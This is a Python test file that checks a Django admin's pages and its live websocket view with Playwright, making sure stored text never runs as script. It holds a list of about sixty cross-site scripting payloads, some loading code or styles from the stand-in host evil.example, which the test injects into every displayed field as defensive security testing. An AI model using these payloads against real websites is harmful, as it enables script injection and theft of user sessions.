"""DB-04: what people, models and tools can write stays text on every page of the admin, in a real browser."""

import asyncio
import json
import os
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import pytest
from django.conf import settings as django_settings
from django.test import Client
from playwright.async_api import Page, WebSocketRoute, async_playwright
from pytest_django.live_server_helper import LiveServer

from sessions.models import DecisionLog, Event, Session, SessionState, Turn
from sessions.operator_models import ApiKey, AuditEntry, Webhook, WebhookDelivery
from tests.browser.conftest import QUIET_FLAGS, browser_path
from tests.unit.operator_rows import STARTED_AT, person, talk
from tests.unit.web_site import Configure, configure  # noqa: F401

# ruff: noqa: F811
pytestmark = [pytest.mark.browser, pytest.mark.timeout(180), pytest.mark.django_db(transaction=True)]

HIT = "window.hit=1;alert(1)"
PAYLOADS = [
    *(
        payload.replace("HIT", HIT)
        for payload in (
            "<script>HIT</script>",
            "<ScRiPt>HIT</sCrIpT>",
            "</script><script>HIT</script>",
            "<script src=data:,HIT></script>",
            "<script/src=//evil.example/x.js></script>",
            "<img src=x onerror=HIT>",
            '<img src="x" onerror="HIT">',
            "<img src=x onerror=HIT//",
            "<svg onload=HIT>",
            "<svg><script>HIT</script></svg>",
            "<svg><animate onbegin=HIT attributeName=x dur=1s>",
            "<body onload=HIT>",
            "<iframe src=javascript:HIT></iframe>",
            "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
            "<object data=javascript:HIT>",
            "<embed src=javascript:HIT>",
            "<a href=javascript:HIT autofocus onfocus=HIT>x</a>",
            "<form action=javascript:HIT><input type=submit autofocus onfocus=HIT></form>",
            "<input autofocus onfocus=HIT>",
            "<select autofocus onfocus=HIT>",
            "<textarea autofocus onfocus=HIT>",
            "<keygen autofocus onfocus=HIT>",
            "<video><source onerror=HIT></video>",
            "<audio src=x onerror=HIT>",
            "<details open ontoggle=HIT>",
            "<marquee onstart=HIT>",
            "<meta http-equiv=refresh content='0;url=javascript:HIT'>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<base href=//evil.example/>",
            "<style>@import '//evil.example/x.css';</style>",
            "<style>body{display:none}</style>",
            "<div style=background:url(javascript:HIT)>",
            "<math><mtext></mtext><mglyph><style><img src=x onerror=HIT>",
            "<noscript><p title='</noscript><img src=x onerror=HIT>'>",
            "<template><script>HIT</script></template>",
            '"><script>HIT</script>',
            "'><script>HIT</script>",
            '" onmouseover="HIT" autofocus onfocus="HIT',
            "' onmouseover='HIT' autofocus onfocus='HIT",
            "` onmouseover=`HIT`",
            "';HIT//",
            '";HIT//',
            "\\';HIT//",
            "</title><script>HIT</script>",
            "</textarea><script>HIT</script>",
            "</style><script>HIT</script>",
            "--><script>HIT</script>",
            "<!--<img src='--><img src=x onerror=HIT>'>",
            "]]><script>HIT</script>",
            "javascript:HIT",
            "data:text/html,<script>HIT</script>",
            "{{constructor.constructor('HIT')()}}",
            "{% load x %}{{ x }}<script>HIT</script>",
            "${HIT}",
            '" x-data="{}" x-init="HIT',
            "' x-data='{}' x-init='HIT",
            "<div x-data x-init='HIT'></div>",
            "<div hx-get='/admin/' hx-trigger='load' hx-on::load='HIT'></div>",
            "&lt;script&gt;HIT&lt;/script&gt;",
            "&#60;script&#62;HIT&#60;/script&#62;",
            "\u202e<script>HIT</script>",
            "<scr\u200bipt>HIT</scr\u200bipt>＜script＞HIT＜/script＞",
        )
    )
]
FAULTS = """() => {
  const found = [];
  if (window.hit) found.push('a script of the text ran');
  for (const script of document.scripts) {
    if (!script.src.startsWith(location.origin + '/')) found.push('script ' + script.outerHTML);
  }
  for (const node of document.querySelectorAll('*')) {
    for (const {name, value} of node.attributes) {
      const leads = /^(href|src|action|formaction|data|xlink:href|srcdoc)$/.test(name);
      const isRun = name.startsWith('on') || (leads && /^\\s*(javascript|data):/i.test(value));
      if (isRun || (/hit=1/.test(value) && /^(x-|hx-|@|:)/.test(name))) {
        found.push(node.tagName + ' ' + name + '=' + value);
      }
    }
  }
  const strange = 'iframe, object, embed, base, marquee, math, video, audio, style:not(head style)';
  for (const node of document.querySelectorAll(strange)) found.push(node.outerHTML.slice(0, 200));
  return found;
}"""


class Rows:
    """The corpus in every column that is shown, and the addresses of the pages that show it."""

    def __init__(self) -> None:
        every = " ".join(PAYLOADS)
        self.session = talk(
            every[:4_000], channel_name="room", turns=0, facts=every[:2_000], state=SessionState.STARTED
        )
        for number, payload in enumerate(PAYLOADS):
            self._one(number, payload)
        names = {f"a {payload}"[:40]: payload for payload in PAYLOADS}
        Session.objects.filter(pk=self.session.pk).update(providers=names, owner=PAYLOADS[0][:80])
        DecisionLog.objects.filter(session__channel_name__startswith="x").delete()
        AuditEntry.objects.create(actor=PAYLOADS[1][:150], action=PAYLOADS[0][:40], detail={"text": every})
        ApiKey.objects.create(name=PAYLOADS[5][:80], shown_start="nova_", digest="d", owner="key:d")
        hook = Webhook.objects.create(
            url="https://example.org/", description=PAYLOADS[5], sealed_secret="s", events=[PAYLOADS[0]]
        )
        self.delivery = WebhookDelivery.objects.create(
            webhook=hook, event=PAYLOADS[0][:40], line=PAYLOADS[1][:64], payload={"a": every}, last_error=PAYLOADS[5]
        )
        self.turn = Turn.objects.create(
            session=self.session,
            turn_id="item_all",
            user_text=every,
            reply_text=every,
            heard_text=every[:300],
            started_at=STARTED_AT + timedelta(seconds=1),
            ended_at=STARTED_AT + timedelta(seconds=3),
            delays={"end_of_turn": 5.0, "first_sentence": 9.0, PAYLOADS[1]: 5.0},
            error_code=PAYLOADS[5][:64],
        )

    def _one(self, number: int, payload: str) -> None:
        made = talk(payload, channel_name=f"x{number}", facts=payload)
        Session.objects.filter(pk=made.pk).update(
            channel_name=payload[:64], graph_name=payload[:64], owner=payload[:80], end_reason=payload[:64]
        )
        Event.objects.filter(session=made).update(session=self.session, code=payload[:64])
        Turn.objects.filter(session=made).update(session=self.session, error_code=payload[:64], graph_name=payload[:64])

    def paths(self) -> Iterator[str]:
        session = f"/admin/nova_sessions/session/{self.session.id}"
        yield from ("/admin/", "/admin/nova_sessions/session/", "/admin/nova_sessions/session/?p=2")
        yield from (f"{session}/change/", f"{session}/change/?page=2", f"{session}/transcript/")
        yield from (f"{session}/transcript/?page=2", f"{session}/erase/")
        yield from ("/admin/nova_sessions/turn/", "/admin/nova_sessions/turn/?p=2")
        yield f"/admin/nova_sessions/turn/{self.turn.pk}/change/"
        yield from ("/admin/nova_sessions/auditentry/", "/admin/nova_sessions/apikey/")
        yield from ("/admin/nova_sessions/webhook/", "/admin/nova_sessions/webhookdelivery/")
        yield f"/admin/nova_sessions/webhookdelivery/{self.delivery.pk}/change/"
        for payload in ("';" + HIT + "//", '" x-data="{}" x-init="' + HIT, "<img src=x onerror=" + HIT + ">"):
            for name in ("session", "turn", "auditentry"):
                yield f"/admin/nova_sessions/{name}/?q={quote(payload)}"


@pytest.fixture
def rows(transactional_db: None, configure: Configure) -> Rows:
    configure(auth="required")
    return Rows()


@pytest.fixture
def cookie(rows: Rows) -> dict[str, Any]:
    client = Client()
    client.force_login(person("root"))
    name = django_settings.SESSION_COOKIE_NAME
    return {"name": name, "value": client.cookies[name].value}


@asynccontextmanager
async def opened(url: str, cookie: dict[str, Any], noticed: list[str]) -> AsyncIterator[Page]:
    flags = [*QUIET_FLAGS, *(["--no-sandbox"] if os.geteuid() == 0 else [])]
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=browser_path(), args=flags)
        context = await browser.new_context()
        await context.add_cookies([{"name": cookie["name"], "value": cookie["value"], "url": url}])
        page = await context.new_page()

        async def dismiss(dialog: Any) -> None:
            noticed.append(f"dialog {dialog.message}")
            await dialog.dismiss()

        page.on("dialog", lambda dialog: asyncio.ensure_future(dismiss(dialog)))
        page.on("request", lambda request: noticed.append(request.url) if "evil.example" in request.url else None)
        yield page
        await browser.close()


async def test_db_04_nothing_that_was_said_or_typed_runs_on_any_page(
    rows: Rows, cookie: dict[str, Any], live_server: LiveServer
) -> None:
    noticed: list[str] = []
    async with opened(live_server.url, cookie, noticed) as page:
        for path in rows.paths():
            answer = await page.goto(live_server.url + path)
            assert answer is not None
            assert answer.status == 200, path
            if path == "/admin/":
                await page.wait_for_selector("#dashboard[data-state=shown]")
            found = await page.evaluate(FAULTS)
            assert found == [], path
        assert noticed == []
        await watch_live(page, f"{live_server.url}/admin/nova_sessions/session/{rows.session.id}/live/")
    assert noticed == []


async def watch_live(page: Page, url: str) -> None:
    """The staff's socket tells every payload in every place that the page shows."""

    def tell(socket: WebSocketRoute) -> None:
        for number, payload in enumerate(PAYLOADS):
            for event in live_events(f"{number} {payload}", payload):
                socket.send(event)

    await page.route_web_socket("**/admin/live/**", tell)
    await page.goto(url)
    await page.wait_for_function(
        "last => document.querySelector('#captions').textContent.includes(last)", arg=PAYLOADS[-1]
    )
    assert await page.evaluate(FAULTS) == []


def live_events(item_id: str, payload: str) -> Iterator[str]:
    item = {"item_id": item_id, "role": payload, "text": payload, "status": "incomplete"}
    yield json.dumps({"name": "item", **item})
    yield json.dumps({"name": "cut_off", "item_id": item_id, "heard_ms": 1, "reason": payload})
    yield json.dumps({"name": "fault", "code": payload, "text": payload})
    yield json.dumps({"name": "measured", "delays_ms": {payload: 1}})
    yield json.dumps({"name": "state", "is_listening": payload, "is_thinking": False, "is_speaking": False})
